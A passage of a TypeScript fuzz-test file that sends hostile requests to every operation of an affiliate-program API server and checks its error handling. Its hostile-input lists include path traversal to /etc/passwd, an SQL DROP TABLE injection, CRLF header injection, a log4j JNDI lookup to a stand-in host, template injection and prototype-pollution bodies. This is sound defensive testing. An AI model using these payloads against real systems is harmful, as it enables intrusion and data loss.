/**
 * No request, however hostile, gets a 5xx. A property-based fuzz (fast-check) over EVERY operation of the OpenAPI
 * document the server serves (`GET /api/v1/openapi.json`, read at test time: a new operation is fuzzed without
 * editing this file), over real HTTP and PostgreSQL:
 * (a) a schema-valid-ish body (built from the operation's JSON Schema, with this program's real ids) with one field
 *     replaced by a hostile value (NUL, lone surrogates, 10k-character strings, deep nesting, 1e308 / -0 /
 *     "NaN", arrays for strings, `__proto__` / `constructor` keys);
 * (b) hostile path parameters and query values (`%00`, `%ff`, `..%2f`, very long, repeated keys);
 * (c) arbitrary JSON and raw garbage bytes as the body; (d) wrong content types —
 * each with valid credentials (admin API key, partner session + CSRF token, the merchant console's session + CSRF
 * token for the console's own operations, Stripe signature) and without.
 * Every answer is below 500, every 4xx is `{ error: { code, message } }`, every answer says
 * `X-Content-Type-Options: nosniff`, nothing pollutes `Object.prototype`, and the server still serves normal
 * requests (and processes a normal Stripe event) afterwards.
 *
 * Then one example per finding: `%00` in every id path parameter and id filter, NUL in each stored text field
 * (refused with a 400 naming the field, nothing written), a signed webhook nested 4,000 levels deep (400, nothing
 * stored, a good event delivered with it still processed), a link destination with userinfo (400), completing a
 * completed payout with another reference (409), and the nosniff header.
 */
import { createHmac, randomBytes } from 'node:crypto';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { startTestApp, type TestApp } from '../helpers/app.ts';
import { approvedAffiliate, approvedSales, click, createShop, randomIp, type Shop } from '../helpers/commissions.ts';
import { checkoutSession, sign } from '../helpers/stripe.ts';
import { jsonbSafe } from '../../server/stripe/webhooks/webhooks.service.ts';

const PASSWORD = 'correct horse battery staple';
const UA = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';

// --- the OpenAPI document, as operations -------------------------------------------------------------------

interface Schema {
  type?: string | string[];
  properties?: Record<string, Schema>;
  required?: string[];
  enum?: unknown[];
  const?: unknown;
  anyOf?: Schema[];
  oneOf?: Schema[];
  allOf?: Schema[];
  default?: unknown;
  pattern?: string;
  format?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  items?: Schema;
  additionalProperties?: boolean | Schema;
  propertyNames?: Schema;
}

interface Operation {
  method: string;
  path: string;
  label: string;
  auth: 'apiKey' | 'session' | 'console' | 'stripe' | 'public';
  pathParams: string[];
  query: Record<string, Schema>;
  body?: Schema;
}

function operationsOf(doc: any): Operation[] {
  const ops: Operation[] = [];
  for (const [path, methods] of Object.entries<Record<string, any>>(doc.paths)) {
    for (const [method, o] of Object.entries<any>(methods)) {
      const security: Record<string, unknown>[] = o.security ?? [];
      const auth =
        security.length > 0 && security.every((s) => 'consoleSession' in s)
          ? 'console'
          : security.some((s) => 'apiKey' in s)
            ? 'apiKey'
            : security.some((s) => 'partnerSession' in s)
              ? 'session'
              : security.some((s) => 'stripeSignature' in s)
                ? 'stripe'
                : 'public';
      const params: { name: string; in: string; schema: Schema }[] = o.parameters ?? [];
      ops.push({
        method: method.toUpperCase(),
        path,
        label: `${method.toUpperCase()} ${path}`,
        auth,
        pathParams: params.filter((p) => p.in === 'path').map((p) => p.name),
        query: Object.fromEntries(params.filter((p) => p.in === 'query').map((p) => [p.name, p.schema])),
        body: o.requestBody?.content?.['application/json']?.schema,
      });
    }
  }
  return ops;
}

// --- the world the fuzz runs in ----------------------------------------------------------------------------

let app: TestApp;
let shop: Shop;
let doc: any;
let operations: Operation[];
/** The logged-in partner (stable: admin fuzzing never targets it by path). */
let partner: { id: string; code: string; email: string; cookie: string; csrf: string };
/** The merchant console's owner of the program, logged in (the console API's own operations). */
let merchant: { email: string; cookie: string; csrf: string };
/** The affiliate admin path operations act on (approve, reject, suspend, invite). */
let target: { id: string };
/** The affiliate whose sessions `POST /partner/logout` ends (everywhere, possibly). */
let leaver: { email: string };
const real: {
  commission: string;
  payout: string;
  rule: string;
  promotionCode: string;
  slug: string;
  referral: string;
} = { commission: '', payout: '', rule: '', promotionCode: '', slug: '', referral: '' };
const serverErrors: string[] = [];

async function setPassword(setPasswordUrl: string) {
  const token = setPasswordUrl.split('#set-password=')[1];
  const res = await app.request('/api/v1/partner/password', {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-forwarded-for': randomIp() },
    body: JSON.stringify({ token, password: PASSWORD }),
  });
  expect(res.status).toBe(200);
  return {
    cookie: res.headers.get('set-cookie')!.split(';')[0]!,
    csrf: ((await res.json()) as { csrfToken: string }).csrfToken,
  };
}

const CONSOLE_PASSWORD = 'a long console password';

/** A console login of `merchant` (fresh: `POST /console/logout` ends the session it is sent with). */
async function merchantSession() {
  const res = await app.request('/api/v1/console/login', {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-forwarded-for': randomIp() },
    body: JSON.stringify({ email: merchant.email, password: CONSOLE_PASSWORD }),
  });
  expect(res.status, await res.clone().text()).toBe(200);
  return {
    cookie: res.headers.get('set-cookie')!.split(';')[0]!,
    csrf: ((await res.json()) as { csrfToken: string }).csrfToken,
  };
}

/** A fresh session of `leaver` (a new client IP each time, so login rate limits never apply). */
async function leaverSession() {
  const res = await app.request('/api/v1/partner/login', {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-forwarded-for': randomIp() },
    body: JSON.stringify({ email: leaver.email, password: PASSWORD, program: shop.id }),
  });
  expect(res.status, await res.clone().text()).toBe(200);
  return {
    cookie: res.headers.get('set-cookie')!.split(';')[0]!,
    csrf: ((await res.json()) as { csrfToken: string }).csrfToken,
  };
}

beforeAll(async () => {
  app = await startTestApp(
    { TRUST_PROXY: 'on' },
    { log: (msg, err) => serverErrors.push(`${msg}: ${err instanceof Error ? err.stack : String(err ?? '')}`) },
  );
  shop = await createShop(app);
  const p = await approvedAffiliate(shop);
  partner = { ...p, ...(await setPassword(p.setPasswordUrl)) };
  target = await approvedAffiliate(shop);
  const l = await approvedAffiliate(shop);
  await setPassword(l.setPasswordUrl);
  leaver = l;
  const invited = await app.services.console.addMember(shop.id, { email: 'owner@fuzz.test', role: 'owner' });
  const accepted = await app.request('/api/v1/console/invite/accept', {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-forwarded-for': randomIp() },
    body: JSON.stringify({ token: invited.inviteUrl!.split('#invite=')[1], password: CONSOLE_PASSWORD }),
  });
  expect(accepted.status, await accepted.clone().text()).toBe(200);
  merchant = {
    email: 'owner@fuzz.test',
    cookie: accepted.headers.get('set-cookie')!.split(';')[0]!,
    csrf: ((await accepted.json()) as { csrfToken: string }).csrfToken,
  };

  const commissions = await approvedSales(app, shop, partner.code, 3, 10_000);
  real.commission = commissions[0]!;
  const payout = await shop.admin.post('/api/v1/payouts', { affiliateId: partner.id, amount: 1000, method: 'check' });
  expect(payout.status).toBe(201);
  real.payout = payout.body.payout.id;
  const rule = await shop.admin.post('/api/v1/commission-rules', { name: 'Base', type: 'percentage', rateBps: 1000 });
  expect(rule.status).toBe(201);
  real.rule = rule.body.rule.id;
  const promo = await shop.admin.post('/api/v1/promotion-codes', {
    affiliateId: partner.id,
    stripePromotionCodeId: 'promo_fuzzbase',
    code: 'FUZZ10',
  });
  expect(promo.status).toBe(201);
  real.promotionCode = promo.body.promotionCode.id;
  const link = await shop.admin.post('/api/v1/links', { affiliateId: partner.id });
  expect(link.status).toBe(201);
  real.slug = link.body.link.slug;
  real.referral = await click(app, shop, partner.code);

  const res = await app.request('/api/v1/openapi.json');
  expect(res.status).toBe(200);
  doc = await res.json();
  operations = operationsOf(doc);
  expect(operations.some((op) => op.auth === 'console')).toBe(true);
  expect(operations.length).toBeGreaterThan(50);
});
afterAll(async () => {
  await app?.stop();
});

// --- valid-ish values --------------------------------------------------------------------------------------

let serial = 0;
const fresh = () => `${++serial}${randomBytes(3).toString('hex')}`;

/** Values the server must find real (ids of this program), or fresh where a value must be unique. */
function knownField(name: string, op: Operation): { value: unknown } | undefined {
  switch (name) {
    case 'affiliateId':
      return { value: partner.id };
    case 'key':
      return { value: shop.publicKey };
    case 'referral':
      return { value: real.referral };
    case 'affiliateCode':
      return { value: partner.code };
    case 'code':
      return { value: op.path === '/api/v1/track/click' ? partner.code : `FZ${fresh()}` };
    case 'email':
    case 'customerEmail':
      return { value: `fz${fresh()}@partners.test` };
    case 'stripePromotionCodeId':
      return { value: `promo_fz${fresh()}` };
    case 'slug':
      return { value: `fz${fresh()}` };
    case 'destinationUrl':
    case 'website':
    case 'url':
      return { value: `${shop.website}/landing` };
    case 'externalId':
      return { value: `ext_${fresh()}` };
    case 'stripeApiKey':
      return { value: null }; // a key would make webhook processing call the real Stripe
    case 'payoutSchedule':
      return { value: '0 0 1 * *' };
    case 'tz':
      return { value: 'UTC' };
    case 'currency':
      return { value: 'usd' };
  }
  return undefined;
}

function exampleString(s: Schema): string {
  if (s.format === 'email') return `fz${fresh()}@partners.test`;
  if (s.format === 'uri') return `${shop.website}/landing`;
  if (s.format === 'date-time') return new Date().toISOString();
  const len = Math.min(Math.max(s.minLength ?? 1, 12), s.maxLength ?? 12);
  const plain = 'abcdefghijklmnopqrstuvwxyz'.repeat(40).slice(0, len);
  if (!s.pattern) return plain;
  const re = new RegExp(s.pattern);
  for (const c of [plain, 'usd', 'US', 'abc123']) if (re.test(c)) return c;
  return fc.sample(fc.stringMatching(re), { numRuns: 1, seed: 42 })[0]!;
}

/** A value that should pass `schema` (unions take variant `variant`), with real ids where names say so. */
function example(schema: Schema, op: Operation, variant: number, name = ''): unknown {
  const known = knownField(name, op);
  if (known) return known.value;
  if ('const' in schema) return schema.const;
  if (schema.enum) return schema.enum[variant % schema.enum.length];
  const union = schema.oneOf ?? schema.anyOf;
  if (union) {
    const options = union.filter((s) => s.type !== 'null');
    return example(options[variant % options.length] ?? union[0]!, op, variant, name);
  }
  if (schema.allOf) return Object.assign({}, ...schema.allOf.map((s) => example(s, op, variant, name)));
  const type = Array.isArray(schema.type) ? schema.type[0] : schema.type;
  switch (type) {
    case 'object': {
      const out: Record<string, unknown> = {};
      for (const [k, s] of Object.entries(schema.properties ?? {})) out[k] = example(s, op, variant, k);
      if (!schema.properties && typeof schema.additionalProperties === 'object')
        out[schema.propertyNames ? exampleString(schema.propertyNames) : 'key'] = example(
          schema.additionalProperties,
          op,
          variant,
        );
      return out;
    }
    case 'array':
      return schema.items ? [example(schema.items, op, variant)] : [];
    case 'integer':
    case 'number': {
      const min = schema.minimum ?? (schema.exclusiveMinimum !== undefined ? schema.exclusiveMinimum + 1 : 1);
      return Math.min(Math.max(min, 1), schema.maximum ?? Number.MAX_SAFE_INTEGER);
    }
    case 'boolean':
      return true;
    case 'null':
      return null;
    case 'string':
      return exampleString(schema);
  }
  return schema.default ?? null;
}

/** The body an operation expects: its schema; for a PATCH without one, its collection's POST schema. */
function baseBody(op: Operation, variant: number): unknown {
  if (op.auth === 'stripe') return checkoutSession({ referral: real.referral, amountTotal: 1000 });
  let schema = op.body;
  if (!schema) {
    const collection = op.path.replace(/\/\{\w+\}$/, '');
    schema = doc.paths[collection]?.post?.requestBody?.content?.['application/json']?.schema;
    if (op.method !== 'PATCH' && op.method !== 'PUT') schema = undefined;
  }
  return schema ? example(schema, op, variant) : {};
}

/** A real id for a path parameter: the resource named by the path segment before it. */
function realParam(op: Operation, name: string): string {
  if (name === 'programId') return shop.id;
  if (name === 'slug') return real.slug;
  const resource = op.path.split(`/{${name}}`)[0]!.split('/').pop()!;
  const ids: Record<string, string> = {
    affiliates: target.id,
    commissions: real.commission,
    'commission-rules': real.rule,
    payouts: real.payout,
    'promotion-codes': real.promotionCode,
  };
  return ids[resource] ?? 'x_missing';
}

// --- hostile values ----------------------------------------------------------------------------------------

/** JSON text spliced into a body as is (nesting deeper than JSON.stringify goes, own `__proto__` keys). */
class Raw {
  constructor(readonly text: string) {}
}

const NASTY_STRINGS = [
  '\u0000',
  'a\u0000b',
  '\ud800',
  'x\udfffy',
  '\ud83d',
  '\u202e\u0000',
  '%00',
  '../../etc/passwd',
  '..\\..\\windows',
  "'; DROP TABLE affiliates; --",
  '\r\nSet-Cookie: pwned=1',
  '\u0007\u001b[31m\u007f',
  '\ufeff\ufffe\uffff',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style lookup, sent as literal text on purpose
  '${jndi:ldap://x.test/a}',
  '{{constructor.constructor("return process")()}}',
  ' ',
  '',
];
const codeUnit = fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c));
const hostileString = fc.oneof(
  fc.constantFrom(...NASTY_STRINGS),
  fc.constantFrom('x'.repeat(10_000), `${'é'.repeat(5_000)}\u0000`, '\ud800'.repeat(3_000)),
  fc.string({ unit: codeUnit, maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc
    .tuple(fc.string({ maxLength: 8 }), fc.constantFrom('\u0000', '\ud800', '\udc00', '\u0001'))
    .map(([s, c]) => `${s}${c}${s}`),
);
const nest = (n: number, leaf: string, open: string, close: string) => new Raw(open.repeat(n) + leaf + close.repeat(n));
/** Strings PostgreSQL cannot store as they are: NUL above all, unpaired surrogates, other control characters. */
const unstorableString = fc.oneof(
  {
    arbitrary: fc.oneof(
      fc.constantFrom('\u0000', 'a\u0000b', '\u202e\u0000', `${'é'.repeat(5_000)}\u0000`, '\ud800\u0000'),
      fc.string({ maxLength: 8 }).map((s) => `${s}\u0000${s}`),
    ),
    weight: 4,
  },
  fc.constantFrom('\ud800', 'x\udfffy', '\ud83d', '\u0007\u001b[31m\u007f', '\ud800'.repeat(3_000)),
  fc.tuple(fc.string({ maxLength: 8 }), fc.constantFrom('\ud800', '\udc00', '\u0001')).map(([s, c]) => `${s}${c}${s}`),
);
const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: unstorableString, weight: 6 },
  { arbitrary: hostileString, weight: 2 },
  fc.constantFrom(1e308, -1e308, -0, 2 ** 53, 2 ** 64, -1, 0.5, 5e-324, 'NaN', 'Infinity', '-0', '1e308', '0x1f', '١٢'),
  fc.constantFrom<unknown>(null, true, false, [], {}, [null], [['a']], { $gt: '' }, { toString: 'x' }),
  fc.array(hostileString, { minLength: 1, maxLength: 3 }),
  fc.integer({ min: 200, max: 5_000 }).map((n) => nest(n, '1', '[', ']')),
  fc.integer({ min: 200, max: 5_000 }).map((n) => nest(n, '"\\u0000"', '{"a":', '}')),
  fc.constantFrom(
    new Raw('{"__proto__":{"polluted":"yes","status":"approved"}}'),
    new Raw('{"constructor":{"prototype":{"polluted":"yes"}}}'),
    new Raw('"\\ud800\\u0000"'),
  ),
);
const PROTO_KEYS = ['__proto__', 'constructor', 'prototype'] as const;
/** A prototype key to add (1 time in 6) instead of replacing the field. */
const sometimesProtoKey = fc.oneof(
  { arbitrary: fc.constant(null), weight: 5 },
  { arbitrary: fc.constantFrom(...PROTO_KEYS), weight: 1 },
);
/** With credentials 4 times in 5: without them most requests stop at the 401. */
const mostlyAuthed = fc.integer({ min: 0, max: 4 }).map((n) => n > 0);

type Path = (string | number)[];
function nodePaths(v: unknown, path: Path = []): Path[] {
  const out: Path[] = [path];
  if (Array.isArray(v)) for (const [i, x] of v.entries()) out.push(...nodePaths(x, [...path, i]));
  else if (v && typeof v === 'object')
    for (const [k, x] of Object.entries(v as Record<string, unknown>)) out.push(...nodePaths(x, [...path, k]));
  return out;
}
function objectPaths(v: unknown): Path[] {
  return nodePaths(v).filter((p) => {
    const node = p.reduce<any>((o, k) => o[k], v);
    return node && typeof node === 'object' && !Array.isArray(node);
  });
}
/** `body` with the node at `path` replaced by `value` (the root when `path` is empty), or `key` added there. */
function mutate(body: unknown, path: Path, value: unknown, key?: string): unknown {
  if (path.length === 0 && key === undefined) return value;
  const copy = structuredClone(body) as any;
  const parent = (key === undefined ? path.slice(0, -1) : path).reduce((o, k) => o[k], copy);
  Object.defineProperty(parent, key ?? path[path.length - 1]!, {
    value,
    enumerable: true,
    writable: true,
    configurable: true,
  });
  return copy;
}
function serialize(body: unknown): string {
  const raws: Raw[] = [];
  const text = JSON.stringify(body, (_k, v) => {
    if (v instanceof Raw) {
      raws.push(v);
      return `\u0001raw${raws.length - 1}\u0001`;
    }
    return v;
  });
  return (text ?? 'null').replace(/"\\u0001raw(\d+)\\u0001"/g, (_m, i: string) => raws[Number(i)]!.text);
}

/** Percent-encode UTF-8 (lone surrogates become U+FFFD, as a browser would send them). */
const pct = (s: string) =>
  [...Buffer.from(s, 'utf8')]
    .map((b) =>
      /[A-Za-z0-9_.~-]/.test(String.fromCharCode(b)) ? String.fromCharCode(b) : `%${b.toString(16).padStart(2, '0')}`,
    )
    .join('');
const hostileSegment = fc.oneof(
  fc.constantFrom(
    '%00',
    'a%00b',
    'x_missing%00',
    '%ff',
    '%fe%ff',
    '..%2f..%2fetc%2fpasswd',
    '%2e%2e%2f',
    '%ED%A0%80',
    '%C0%AF',
    '%u0000',
    '%',
    '%zz',
    '%0d%0aX-Injected:%201',
    '%E2%80%AE',
    'x'.repeat(3_000),
    `${'%00'.repeat(500)}`,
    '__proto__',
    'constructor',
    '-1',
    '1e308',
    '%5B%5D',
  ),
  // At most ~3,000 characters encoded: Node refuses a request head over 16 KB (431) before any of our code runs.
  hostileString.map((s) => pct(s.slice(0, 300))),
);
const hostileQueryValue = fc.oneof(hostileSegment, fc.constantFrom('', '[]', 'NaN', '-0', '1e308', '9'.repeat(400)));
const queryKey = (op: Operation) =>
  fc.oneof(
    ...(Object.keys(op.query).length ? [fc.constantFrom(...Object.keys(op.query))] : []),
    fc.constantFrom('__proto__', 'constructor', 'affiliateId[]', 'limit[0]', '%00', 'x'.repeat(200)),
  );

// --- sending and checking ----------------------------------------------------------------------------------

interface Shot {
  params: Record<string, string>;
  query?: [string, string][];
  body?: string | Uint8Array;
  contentType?: string;
  authed: boolean;
}

function urlOf(op: Operation, shot: Shot): string {
  let path = op.path;
  for (const name of op.pathParams) path = path.replace(`{${name}}`, shot.params[name] ?? pct(realParam(op, name)));
  const q = (shot.query ?? []).map(([k, v]) => `${k}=${v}`).join('&');
  return q ? `${path}?${q}` : path;
}

async function send(op: Operation, shot: Shot) {
  const headers: Record<string, string> = { 'user-agent': UA, 'x-forwarded-for': randomIp() };
  if (shot.contentType) headers['content-type'] = shot.contentType;
  if (op.path.startsWith('/api/v1/track/')) headers.origin = shop.website;
  if (shot.authed && op.auth === 'apiKey') headers.authorization = `Bearer ${shop.apiKey}`;
  if (shot.authed && op.auth === 'session') {
    const s = op.path === '/api/v1/partner/logout' ? await leaverSession() : partner;
    headers.cookie = s.cookie;
    headers['x-csrf-token'] = s.csrf;
  }
  if (shot.authed && op.auth === 'console') {
    const s = op.path === '/api/v1/console/logout' ? await merchantSession() : merchant;
    headers.cookie = s.cookie;
    headers['x-csrf-token'] = s.csrf;
    headers['x-partnerkit-program'] = shop.id;
  }
  if (shot.authed && op.auth === 'stripe' && shot.body !== undefined) {
    const t = Math.floor(Date.now() / 1000);
    const bytes = typeof shot.body === 'string' ? Buffer.from(shot.body, 'utf8') : Buffer.from(shot.body);
    const v1 = createHmac('sha256', shop.secret).update(`${t}.`).update(bytes).digest('hex');
    headers['stripe-signature'] = `t=${t},v1=${v1}`;
  }
  const res = await app.request(urlOf(op, shot), {
    method: op.method,
    headers,
    body: op.method === 'GET' || op.method === 'HEAD' || shot.body === undefined ? undefined : Buffer.from(shot.body),
    redirect: 'manual',
    signal: AbortSignal.timeout(15_000),
  });
  return { status: res.status, headers: res.headers, text: await res.text() };
}

/** The invariants of every answer. */
function check(op: Operation, shot: Shot, res: Awaited<ReturnType<typeof send>>): void {
  const what = `${op.label} ${urlOf(op, shot).slice(0, 300)} authed=${shot.authed} type=${shot.contentType} body=${String(
    typeof shot.body === 'string' ? shot.body : shot.body ? `<${shot.body.length} bytes>` : '',
  ).slice(0, 300)} → ${res.status} ${res.text.slice(0, 300)}\n${serverErrors.slice(-1).join('')}`;
  expect(res.status, what).toBeLessThan(500);
  expect(res.headers.get('x-content-type-options'), what).toBe('nosniff');
  if (res.status >= 400) {
    expect(res.headers.get('content-type'), what).toMatch(/^application\/json/);
    const body = JSON.parse(res.text);
    expect(body, what).toEqual({ error: { code: expect.stringMatching(/^[a-z_]+$/), message: expect.any(String) } });
  }
}

/** Send `shot` and check the answer. `FUZZ_TRACE=<part of an operation label>` prints what one operation got. */
async function shoot(op: Operation, shot: Shot) {
  const res = await send(op, shot);
  if (process.env.FUZZ_TRACE && op.label.includes(process.env.FUZZ_TRACE))
    console.log(
      op.label,
      urlOf(op, shot).slice(0, 100),
      shot.authed,
      String(shot.body).slice(0, 200),
      '→',
      res.status,
      res.text.slice(0, 200),
    );
  check(op, shot, res);
}

const opsWith = (pred: (op: Operation) => boolean) => operations.filter(pred);

/** Run `property` for each operation; report every operation that failed (fast-check's shrunk counterexample). */
async function forEach(ops: Operation[], property: (op: Operation) => Promise<void>) {
  const failures: string[] = [];
  for (const op of ops) {
    try {
      await property(op);
    } catch (err) {
      const e = err as Error & { cause?: Error };
      const message = `${e.message}${e.cause ? `\nCaused by: ${e.cause.message}` : ''}`;
      // fast-check's counterexample can be 10,000 characters long: its start, and the failed expectation.
      failures.push(
        `${op.label}: ${message.length > 3_000 ? `${message.slice(0, 800)} … ${message.slice(-2_000)}` : message}`,
      );
    }
  }
  expect(failures, failures.join('\n\n')).toEqual([]);
}
const hasBody = (op: Operation) => op.method !== 'GET' && op.method !== 'HEAD';
/** Runs per operation (per body field for (a)) and category: all of it in well under a minute. */
const RUNS = { field: 6, params: 8, garbage: 5, types: 3 };
/** Fields of one body fuzzed at most (a Stripe event has hundreds of leaves: an even sample). */
const MAX_FIELDS_PER_OPERATION = 20;

describe('fuzz over every operation of the OpenAPI document', () => {
  it('(a) one body field replaced by a hostile value', { timeout: 120_000 }, async () => {
    let fields = 0;
    // Every field (node) of the body in turn, so each one meets a few hostile values; a Stripe event has hundreds
    // of leaves: an even sample of them.
    await forEach(opsWith(hasBody), async (op) => {
      const count = nodePaths(baseBody(op, 0)).length;
      const step = Math.max(1, Math.floor(count / MAX_FIELDS_PER_OPERATION));
      for (let field = 0; field < count; field += step) {
        fields++;
        await fc.assert(
          fc.asyncProperty(
            fc.nat(),
            hostileValue,
            sometimesProtoKey,
            mostlyAuthed,
            async (variant, value, protoKey, authed) => {
              const base = baseBody(op, variant);
              const paths = nodePaths(base);
              let path = paths[field % paths.length]!;
              // A prototype key goes into the object at (or around) the chosen field.
              if (protoKey)
                while (path.length > 0 && !objectPaths(base).some((p) => p.join('.') === path.join('.')))
                  path = path.slice(0, -1);
              const body = mutate(base, path, value, protoKey ?? undefined);
              await shoot(op, {
                params: {},
                body: serialize(body),
                contentType: op.path.startsWith('/api/v1/track/') ? 'text/plain' : 'application/json',
                authed: authed || op.auth === 'public',
              });
            },
          ),
          { numRuns: RUNS.field },
        );
      }
    });
    expect(fields).toBeGreaterThan(100);
  });

  it('(b) hostile path parameters and query values', { timeout: 120_000 }, async () => {
    await forEach(operations, (op) =>
      fc.assert(
        fc.asyncProperty(
          fc.record(Object.fromEntries(op.pathParams.map((p) => [p, fc.option(hostileSegment, { freq: 4 })]))),
          fc.array(fc.tuple(queryKey(op), hostileQueryValue), { maxLength: 2 }),
          fc.nat(),
          fc.boolean(),
          async (params, hostileQuery, variant, authed) => {
            const valid = Object.entries(op.query).map(
              ([k, s]) => [k, pct(String(example(s, op, variant, k)))] as [string, string],
            );
            const shot: Shot = {
              params: Object.fromEntries(Object.entries(params).filter(([, v]) => v !== null)) as Record<
                string,
                string
              >,
              query: [...valid.filter(([k]) => !hostileQuery.some(([h]) => h === k)), ...hostileQuery],
              authed,
            };
            if (hasBody(op)) {
              shot.body = serialize(baseBody(op, variant));
              shot.contentType = 'application/json';
            }
            await shoot(op, shot);
          },
        ),
        { numRuns: RUNS.params },
      ),
    );
  });

  it('(c) arbitrary JSON and raw garbage bytes as the body', { timeout: 120_000 }, async () => {
    await forEach(opsWith(hasBody), (op) =>
      fc.assert(
        fc.asyncProperty(
          fc.oneof(
            fc.jsonValue().map((v) => JSON.stringify(v) ?? 'null'),
            fc.uint8Array({ maxLength: 3_000 }),
            fc.string({ unit: codeUnit, maxLength: 200 }),
            fc.constantFrom('', '{', '{"a":', '[1,]', 'null', '"\\u0000"', '\u0000', '{"a":1}{"b":2}', '\ufeff{}'),
            fc.integer({ min: 1_000, max: 60_000 }).map((n) => '['.repeat(n) + ']'.repeat(n)),
          ),
          fc.boolean(),
          async (body, authed) => {
            await shoot(op, { params: {}, body, contentType: 'application/json', authed });
          },
        ),
        { numRuns: RUNS.garbage },
      ),
    );
  });

  it('(d) wrong content types', { timeout: 120_000 }, async () => {
    await forEach(opsWith(hasBody), (op) =>
      fc.assert(
        fc.asyncProperty(
          fc.constantFrom(
            'text/plain',
            'application/x-www-form-urlencoded',
            'multipart/form-data; boundary=----fuzz',
            'application/xml',
            'application/json; charset=utf-16',
            'application/json; charset=latin1',
            'application/octet-stream',
            'image/png',
            'garbage',
            '*/*',
          ),
          fc.boolean(),
          fc.boolean(),
          async (contentType, asForm, authed) => {
            const base = baseBody(op, 0);
            const body = asForm
              ? new URLSearchParams(
                  Object.entries(base as Record<string, unknown>).map(([k, v]) => [k, String(v)]),
                ).toString()
              : serialize(base);
            await shoot(op, { params: {}, body, contentType, authed });
          },
        ),
        { numRuns: RUNS.types },
      ),
    );
  });

  it('leaves the server healthy: normal requests answer, a normal event is processed, no prototype pollution', async () => {
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(({} as Record<string, unknown>).status).toBeUndefined();
    const settings = await shop.admin.get('/api/v1/program');
    expect(settings.status).toBe(200);
    const me = await app.request('/api/v1/partner/me', { headers: { cookie: partner.cookie } });
    expect(me.status).toBe(200);
    const referral = await click(app, shop, partner.code);
    const event = checkoutSession({ referral, amountTotal: 2_500 });
    const payload = JSON.stringify(event);
    const res = await app.request(`/api/v1/webhooks/stripe/${shop.id}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'stripe-signature': sign(payload, shop.secret) },
      body: payload,
    });
    expect(res.status).toBe(200);
    await vi.waitFor(
      async () =>
        expect(
          await app.db.selectFrom('conversions').select('amount').where('referral_id', '=', referral).execute(),
        ).toEqual([{ amount: 2_500 }]),
      { timeout: 10_000 },
    );
    expect(serverErrors.filter((e) => / failed: /.test(e) && /^(GET|POST|PUT|PATCH|DELETE) /.test(e))).toEqual([]);
  });
});

// --- one example per finding -------------------------------------------------------------------------------

/** Row counts of the tables a refused request must not have written to. */
async function counts() {
  const tables = [
    'affiliates',
    'links',
    'conversions',
    'commission_rules',
    'affiliate_promotion_codes',
    'payouts',
    'stripe_events',
  ] as const;
  const out: Record<string, number> = {};
  for (const t of tables) {
    const row = await app.db
      .selectFrom(t)
      .select((eb) => eb.fn.countAll<string>().as('n'))
      .executeTakeFirstOrThrow();
    out[t] = Number(row.n);
  }
  return out;
}

function expectErrorShape(res: { status: number; body: any }, status: number | number[], code?: string) {
  expect([status].flat(), JSON.stringify(res.body)).toContain(res.status);
  expect(res.body).toEqual({ error: { code: code ?? expect.any(String), message: expect.any(String) } });
}

async function call(method: string, path: string, opts: { body?: string; headers?: Record<string, string> } = {}) {
  const res = await app.request(path, {
    method,
    headers: { 'content-type': 'application/json', 'x-forwarded-for': randomIp(), ...opts.headers },
    body: opts.body,
    redirect: 'manual',
  });
  const text = await res.text();
  return {
    status: res.status,
    headers: res.headers,
    body: text && res.headers.get('content-type')?.includes('json') ? JSON.parse(text) : text,
  };
}
const adminHeaders = () => ({ authorization: `Bearer ${shop.apiKey}` });
const partnerHeaders = () => ({ cookie: partner.cookie, 'x-csrf-token': partner.csrf });
const merchantHeaders = () => ({
  cookie: merchant.cookie,
  'x-csrf-token': merchant.csrf,
  'x-partnerkit-program': shop.id,
});

describe('examples', () => {
  it('%00 in any id path parameter is 404 (400 for a program id), and in an id filter a 400 naming it', async () => {
    // Pages of the partner dashboard are the single-page app's document whatever the path (the app routes itself).
    const withParams = operations.filter(
      (op) => op.pathParams.length > 0 && !['/partner/{page}', '/app/{page}'].includes(op.path),
    );
    expect(withParams.length).toBeGreaterThan(20);
    for (const op of withParams) {
      for (const hostile of ['a%00b', '%00', '%ff', '..%2f..%2f']) {
        for (const name of op.pathParams) {
          const url = urlOf(op, { params: { [name]: hostile }, authed: true });
          const res = await call(op.method, url, {
            body: hasBody(op) ? '{}' : undefined,
            headers:
              op.auth === 'session' ? partnerHeaders() : op.auth === 'console' ? merchantHeaders() : adminHeaders(),
          });
          expect(res.status, `${op.label} ${url}: ${JSON.stringify(res.body)}`).toBeLessThan(500);
          expectErrorShape(res, [400, 404]);
        }
      }
    }
    expectErrorShape(await call('GET', '/r/a%00b'), 404, 'unknown_link');
    expectErrorShape(await call('POST', '/api/v1/webhooks/stripe/%00', { body: '{}' }), 404, 'unknown_program');
    expectErrorShape(await call('GET', '/api/v1/affiliates/%00', { headers: adminHeaders() }), 404, 'not_found');
    expectErrorShape(await call('GET', '/api/v1/partner/commissions/%00', { headers: partnerHeaders() }), 404);
    expectErrorShape(await call('GET', '/api/v1/partner/payouts/a%00b', { headers: partnerHeaders() }), 404);

    const filtered = operations.filter((op) => op.method === 'GET' && 'affiliateId' in op.query);
    expect(filtered.map((op) => op.path)).toEqual(
      expect.arrayContaining(['/api/v1/links', '/api/v1/conversions', '/api/v1/commissions', '/api/v1/payouts']),
    );
    for (const op of filtered) {
      const res = await call('GET', `${op.path}?affiliateId=%00`, { headers: adminHeaders() });
      expectErrorShape(res, 400, 'invalid_request');
      expect(res.body.error.message, op.path).toMatch(/^affiliateId: /);
    }
    // Still a filter: empty means "all", a real id filters.
    expect((await call('GET', '/api/v1/links?affiliateId=', { headers: adminHeaders() })).status).toBe(200);
